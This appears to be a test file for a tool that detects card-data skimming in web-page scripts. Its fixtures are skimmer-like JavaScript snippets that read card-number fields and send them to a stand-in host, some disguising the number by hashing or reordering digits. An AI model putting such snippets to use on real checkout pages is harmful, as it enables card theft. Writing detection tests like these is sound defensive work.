import assert from 'node:assert/strict';
import { flowsOf } from './sandbox-of-tests.ts';

describe('emulator: forms and fields that are not of the card', () => {
  it('puts no card into forms that are for something else', async () => {
    const flows = await flowsOf(`
      document.querySelector('form#newsletter').addEventListener('submit', function (event) {
        event.preventDefault();
        fetch('https://c.example/', { method: 'POST', body: new FormData(this) });
      });`);
    assert.ok(flows.some(({ field }) => field === 'email'));
    assert.deepEqual(
      flows.filter(({ field }) => field.startsWith('card') || field === 'password'),
      [],
    );
  });

  it('puts none into a form in a box that is for something else', async () => {
    const flows = await flowsOf(`
      document.querySelectorAll('.newsletter form').forEach(function (f) {
        f.addEventListener('submit', function (event) {
          fetch('https://c.example/', { method: 'POST', body: new FormData(f) });
        });
      });`);
    assert.deepEqual(
      flows.filter(({ field }) => field.startsWith('card') || field === 'password'),
      [],
    );
  });

  it('tells an address from the name of who has it', async () => {
    const flows = await flowsOf(
      "new Image().src = 'https://c.example/?' + document.querySelector('input[type=email]').value",
    );
    assert.deepEqual(
      flows.map(({ field }) => field),
      ['email'],
    );
  });

  it('calls nothing enciphered for a postcode in clear', async () => {
    const flows = await flowsOf(
      "new Image().src = 'https://c.example/?' + document.querySelector('#billing_postcode').value",
    );
    assert.deepEqual(flows, []);
  });

  it('calls nothing enciphered for a month and a year in clear, beside what has changed not', async () => {
    const flows = await flowsOf(`
      var m = document.querySelector('#cc_exp_month').value, y = document.querySelector('#cc_exp_year').value;
      navigator.sendBeacon('https://c.example/', JSON.stringify({ t: 1709031122, m: +m, mm: m, y: y, yy: y.slice(2) }));`);
    assert.deepEqual(flows, []);
  });

  it('finds the number beside them all the same', async () => {
    const flows = await flowsOf(`
      var n = document.querySelector('#cc_number').value, h = 0;
      for (var i = 0; i < n.length; i++) h = (h * 31 + n.charCodeAt(i) * 7919) % 1000000007;
      navigator.sendBeacon('https://c.example/', document.querySelector('#cc_exp_month').value + '-k' + h);`);
    assert.ok(flows.some(({ field, proof }) => field === 'card-number' && proof === 'dependence'));
  });

  const digest = (of: string): string => `
    document.querySelector('#cc_number').addEventListener('input', function () { this.value = this.value.replace(/(.{4})/g, '$1 ') });
    document.querySelector('form').addEventListener('submit', function () {
      crypto.subtle.digest('SHA-256', new TextEncoder().encode(document.querySelector('${of}').value)).then(function (b) {
        var h = Array.from(new Uint8Array(b)).map(function (x) { return x.toString(16) }).join('');
        fetch('https://c.example/e', { method: 'POST', body: JSON.stringify({ em: h }) });
      });
    });`;

  it('does not take a digest of the address for one of the card that was read, too', async () => {
    const flows = await flowsOf(digest('#customer-email'));
    assert.deepEqual(
      flows.filter(({ field }) => field.startsWith('card')),
      [],
    );
    assert.deepEqual(flows.find(({ field }) => field === 'email')?.chain, ['digest']);
  });

  it('takes a digest of the card for what it is', async () => {
    const flows = await flowsOf(digest('#cc_number'));
    assert.ok(flows.some(({ field }) => field === 'card-number'));
  });

  it('says nothing of a request that does not change, after something was encrypted', async () => {
    const flows = await flowsOf(`
      var n = document.querySelector('#cc_number').value;
      crypto.subtle.encrypt({ name: 'AES-GCM' }, {}, new TextEncoder().encode('x')).then(function () {
        fetch('https://c.example/up', { method: 'POST', body: 'alive' });
      });`);
    assert.deepEqual(flows, []);
  });

  it('finds the card that is enciphered beside an address in clear', async () => {
    const flows = await flowsOf(`
      var n = document.querySelector('#cc_number').value, h = 0;
      for (var i = 0; i < n.length; i++) h = (h * 31 + n.charCodeAt(i) * 7919) % 1000000007;
      navigator.sendBeacon('https://c.example/', JSON.stringify({ m: document.querySelector('#customer-email').value, k: h }));`);
    assert.ok(flows.some(({ field, proof }) => field === 'card-number' && proof === 'dependence'));
  });

  it('calls nothing enciphered for the digits of a bank and the last four', async () => {
    const flows = await flowsOf(`
      var n = document.querySelector('#cc_number').value;
      fetch('https://c.example/instalments?bin=' + n.slice(0, 6) + '&last=' + n.slice(-4));`);
    assert.deepEqual(flows, []);
  });

  it('finds the digits between them', async () => {
    const flows = await flowsOf(`
      var n = document.querySelector('#cc_number').value;
      fetch('https://c.example/a?bin=' + n.slice(0, 6) + '&k=' + n.slice(6, 12).split('').reverse().join('') + '&last=' + n.slice(-4));`);
    assert.ok(flows.some(({ field }) => field === 'card-number'));
  });

  it('lies in nothing that recorders leave out', async () => {
    const flows = await flowsOf(`
      document.addEventListener('change', function (e) {
        var v = e.target.closest('.masked') || e.target.closest('[data-private]') ? '' : e.target.value;
        navigator.sendBeacon('https://c.example/', v);
      }, true);`);
    assert.ok(flows.some(({ field }) => field === 'card-number'));
  });
});
